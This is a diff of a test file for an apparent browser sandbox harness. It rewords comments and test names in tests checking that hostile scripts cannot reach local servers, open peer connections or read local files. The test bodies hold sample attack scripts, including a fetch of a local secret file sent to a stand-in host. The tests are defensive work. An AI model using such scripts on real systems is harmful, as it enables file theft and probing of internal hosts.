@@ -7,7 +7,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { openTestBrowser, runSample, seen } from "./canary.test-support.ts";
 
 const browser = openTestBrowser();
-/** Servers on this computer that must never hear of anything. */
+/** Connections to servers on this computer; there must be none. */
 const heard: string[] = [];
 const tcp = createServer((socket) => {
 	heard.push("tcp");
@@ -32,8 +32,8 @@ afterAll(async () => {
 	await rm(folder, { recursive: true, force: true });
 });
 
-describe("a hostile script reaches nothing outside", () => {
-	it("by any kind of request, to this computer, its names and its addresses in all spellings", async () => {
+describe("a hostile script reaches nothing outside the browser", () => {
+	it("by any kind of request to this computer, by any of its names or addresses", async () => {
 		const hosts = [
 			"127.0.0.1",
 			"localhost",
@@ -62,12 +62,12 @@ describe("a hostile script reaches nothing outside", () => {
 			setTimeout(() => location.assign('http://127.0.0.1:${port}/gone'), 7200e3);`;
 		const report = await runSample(browser, body);
 		expect(heard).toEqual([]);
-		// They were tried, and seen.
+		// The attempts were made and recorded.
 		expect(seen(report)).toContain("cookie>127.0.0.1");
 		expect(seen(report)).toContain("cookie>[::1]");
 	});
 
-	it("by peer connections, also through a window that the stand-ins are not in", async () => {
+	it("by peer connections, even in windows where the harness has not replaced the API", async () => {
 		const server = `{ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }, { urls: 'turn:127.0.0.1:${udpPort}?transport=tcp', username: 'u', credential: 'c' }] }`;
 		const body = `
 			const frame = document.body.appendChild(document.createElement('iframe'));
@@ -79,7 +79,7 @@ describe("a hostile script reaches nothing outside", () => {
 		expect(heard).toEqual([]);
 	});
 
-	it("nor reads a file of this computer", async () => {
+	it("by reading a file of this computer", async () => {
 		const file = `file://${folder}/secret.txt`;
 		const body = `
 			fetch(${JSON.stringify(file)}).then((r) => r.text()).then((t) => fetch('https://x.test/' + t)).catch(() => 0);
